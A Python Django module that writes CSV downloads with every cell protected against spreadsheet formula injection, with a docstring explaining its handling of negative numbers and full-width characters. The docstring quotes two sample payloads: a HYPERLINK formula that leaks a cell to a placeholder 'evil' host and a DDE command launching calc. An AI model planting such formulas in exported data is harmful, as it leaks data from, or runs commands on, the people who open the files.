"""The one way the product writes CSV: every cell formula-safe (OWASP "CSV injection").

A spreadsheet opening a CSV runs a cell that starts with `=`, `+`, `-` or `@` as a formula (and
tab or carriage return can hide such a start); a customer name or a crawled post such as
`=HYPERLINK("http://evil/?"&A1)` or `@SUM(1+1)*cmd|' /C calc'!A0` would then leak data or run a
command on the analyst's PC. Such a cell is written with a leading `'`, which spreadsheets show
as text. The full-width forms (`＝＋－＠`) are treated the same: some spreadsheet builds in CJK
locales fold them to ASCII on input.

Decision on negative numbers: a cell that is a real number (int, Decimal, float: never text)
is written as it is, and so is a string that is exactly a plain decimal number (`-12`, `-0.5`):
a sign followed only by digits cannot call a function, reference a cell or start DDE, so it is
safe to leave numeric. Anything else starting with `-` (`-1+1`, `-A1`, `--x`) is prefixed.

Files are UTF-8 with a byte-order mark, so that Excel opens Chinese text correctly.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable, Iterator
from decimal import Decimal
from typing import Any

from django.http import StreamingHttpResponse

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
_PLAIN_NEGATIVE_NUMBER = re.compile(r"-\d+(?:\.\d+)?")
BOM = "\ufeff"


def csv_safe_cell(value: Any) -> Any:
    """The value as a spreadsheet may read it: numbers as they are, text that could start a formula prefixed with '."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return str(value)
    if isinstance(value, int | float | Decimal):
        return value
    text = str(value)
    if text.startswith(FORMULA_STARTS) and not _PLAIN_NEGATIVE_NUMBER.fullmatch(text):
        return "'" + text
    return text


def csv_safe_row(row: Iterable[Any]) -> list[Any]:
    return [csv_safe_cell(value) for value in row]


class _Echo:
    def write(self, value: str) -> str:
        return value


def csv_lines(rows: Iterable[Iterable[Any]]) -> Iterator[str]:
    """The BOM, then one formula-safe CSV line per row (lazily: a large export streams)."""
    writer = csv.writer(_Echo())
    yield BOM
    for row in rows:
        yield writer.writerow(csv_safe_row(row))


def csv_text(rows: Iterable[Iterable[Any]]) -> str:
    return "".join(csv_lines(rows))


def csv_response(rows: Iterable[Iterable[Any]], *, filename: str) -> StreamingHttpResponse:
    """A streamed CSV download of `rows` (`filename` is ASCII, chosen by the code, never by a user)."""
    response = StreamingHttpResponse(csv_lines(rows), content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response
